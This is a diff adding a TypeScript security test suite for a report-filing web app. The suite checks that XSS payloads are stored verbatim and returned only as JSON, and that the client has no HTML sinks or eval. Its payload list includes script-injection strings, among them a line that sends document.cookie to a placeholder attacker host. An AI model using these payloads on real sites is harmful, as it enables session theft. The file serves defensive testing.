@@ -1,0 +1,143 @@
+/**
+ * Script injection: what an officer types (narrative, notes, cell values) is stored verbatim and only ever returned
+ * as JSON strings, never as HTML; and the web client never hands text to the browser as HTML.
+ */
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { FastifyInstance } from 'fastify';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildApp } from '../../src/server/app.js';
+import type { Context } from '../../src/server/context.js';
+import type { OpenDatabase } from '../../src/server/db/open-database.js';
+import { listReports } from '../../src/server/repositories/report.repository.js';
+import { createRound } from '../../src/server/services/round.service.js';
+import { as, signIn, type TestSession } from '../../src/test-support/http.js';
+import { testEngines } from '../../src/test-support/test-database.js';
+import { buildWorld } from '../../src/test-support/world.js';
+
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  "'><svg/onload=alert(document.cookie)>",
+  '</textarea><script>fetch("https://evil.example/?c="+document.cookie)</script>',
+  '<a href="javascript:alert(1)">bấm vào đây</a>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;', // already-escaped text must not be unescaped either
+];
+
+const [engine] = testEngines(); // PGlite: always there
+
+describe('script injection through report content', () => {
+  let database: OpenDatabase;
+  let ctx: Context;
+  let app: FastifyInstance;
+  let reporter: TestSession;
+  let snv: TestSession;
+  let reportId: string;
+  let version = 1;
+
+  beforeAll(async () => {
+    database = await engine!.fresh();
+    ctx = await buildWorld(database);
+    const consolidator = { accountId: 'acc-snv.tonghop', username: 'snv.tonghop', displayName: 'snv', role: 'consolidator' as const, scope: new Set(['ninh-thuan', 'so-khcn']) };
+    const round = await createRound(ctx, consolidator, { templateId: 'quang-tri-forms-2022', period: { year: 2023, kind: 'Q3' }, agencyIds: ['so-khcn'] });
+    reportId = (await listReports(ctx.db, { agencyIds: ['so-khcn'], roundId: round.id }))[0]!.id;
+    app = await buildApp(ctx, { loginLimit: { max: 1000, timeWindowMs: 60_000 } });
+    reporter = await signIn(app, 'khcn.baocao');
+    snv = await signIn(app, 'snv.tonghop');
+  }, 60_000);
+
+  afterAll(async () => {
+    await app?.close();
+    await database?.close();
+    await engine?.dispose();
+  });
+
+  /** The answer is JSON (never HTML, never sniffed as HTML); returns the parsed body. */
+  function json(response: Awaited<ReturnType<FastifyInstance['inject']>>): Record<string, unknown> {
+    expect(response.headers['content-type']).toMatch(/^application\/(problem\+)?json/u);
+    expect(response.headers['content-type']).not.toMatch(/html/u);
+    expect(response.headers['x-content-type-options']).toBe('nosniff');
+    return response.json() as Record<string, unknown>;
+  }
+
+  for (const payload of PAYLOADS) {
+    it(`stores ${JSON.stringify(payload)} verbatim and returns it as a JSON string`, async () => {
+      const values = await app.inject({
+        method: 'PUT',
+        url: `/api/reports/${reportId}/values`,
+        headers: as(reporter),
+        payload: { version, cells: [{ rowId: '7/6.7', raw: payload }, { rowId: '6/1.2', raw: '6.786,875', note: payload }] },
+      });
+      expect(values.statusCode, values.body).toBe(200);
+      version = json(values)['version'] as number;
+      const narrative = await app.inject({
+        method: 'PUT',
+        url: `/api/reports/${reportId}/narrative`,
+        headers: as(reporter),
+        payload: { version, sections: [{ heading: payload, level: 1, body: `Trước ${payload} sau` }] },
+      });
+      expect(narrative.statusCode, narrative.body).toBe(200);
+      version = json(narrative)['version'] as number;
+
+      // read back by another account: exactly what was typed, as JSON strings
+      const read = await app.inject({ method: 'GET', url: `/api/reports/${reportId}`, headers: as(snv) });
+      const view = json(read) as { values: { rowId: string; raw: string; note: string | null }[]; narrative: { heading: string; body: string }[] };
+      expect(view.values.find((v) => v.rowId === '7/6.7')!.raw).toBe(payload);
+      expect(view.values.find((v) => v.rowId === '6/1.2')!.note).toContain(payload);
+      expect(view.narrative).toEqual([{ heading: payload, level: 1, body: `Trước ${payload} sau` }]);
+      // the text sits inside JSON string literals: the body is the JSON encoding of the strings, not markup
+      expect(read.body).toContain(JSON.stringify(payload).slice(1, -1));
+
+      // stored verbatim: neither escaped nor stripped on the way in
+      const stored = await database.db.selectFrom('report_values').select(['row_id', 'raw', 'note']).where('report_id', '=', reportId).execute();
+      expect(stored.find((v) => v.row_id === '7/6.7')!.raw).toBe(payload);
+      expect(stored.find((v) => v.row_id === '6/1.2')!.note).toContain(payload);
+      const sections = await database.db.selectFrom('narrative_sections').select(['heading', 'body']).where('report_id', '=', reportId).execute();
+      expect(sections).toEqual([{ heading: payload, body: `Trước ${payload} sau` }]);
+    });
+  }
+
+  it('answers a payload in the address with a problem+json document, not an HTML page', async () => {
+    for (const payload of PAYLOADS) {
+      for (const url of [`/api/reports/${encodeURIComponent(payload)}`, `/api/nothing/${encodeURIComponent(payload)}`, `/api/reports?roundId=${encodeURIComponent(payload)}`]) {
+        const response = await app.inject({ method: 'GET', url, headers: as(snv) });
+        expect(response.statusCode, url).toBeLessThan(500);
+        json(response);
+      }
+    }
+  });
+
+  it('sends a Content-Security-Policy that forbids inline scripts with the pages', async () => {
+    const page = await app.inject({ method: 'GET', url: '/' });
+    const csp = String(page.headers['content-security-policy']);
+    expect(csp).toMatch(/script-src 'self'/u);
+    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/u);
+  });
+});
+
+describe('the web client', () => {
+  const root = fileURLToPath(new URL('../../web/', import.meta.url));
+  const files = (dir: string): string[] =>
+    readdirSync(dir).flatMap((name) => {
+      const path = join(dir, name);
+      return statSync(path).isDirectory() ? files(path) : /\.(tsx?|jsx?|html)$/u.test(name) ? [path] : [];
+    });
+
+  it('never hands text to the browser as HTML (no dangerouslySetInnerHTML, innerHTML, outerHTML, insertAdjacentHTML, document.write)', () => {
+    const sources = [...files(join(root, 'src')), join(root, 'index.html')];
+    expect(sources.length).toBeGreaterThan(5);
+    const sinks = /dangerouslySetInnerHTML|\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write(ln)?\s*\(|createContextualFragment|srcdoc/u;
+    const offenders = sources.filter((file) => sinks.test(readFileSync(file, 'utf8'))).map((file) => relative(root, file));
+    expect(offenders).toEqual([]);
+  });
+
+  it('never builds links or scripts from text (no javascript: URLs, eval or new Function)', () => {
+    const offenders = files(join(root, 'src'))
+      .filter((file) => /javascript:|\beval\s*\(|new Function\s*\(/u.test(readFileSync(file, 'utf8')))
+      .map((file) => relative(root, file));
+    expect(offenders).toEqual([]);
+  });
+});
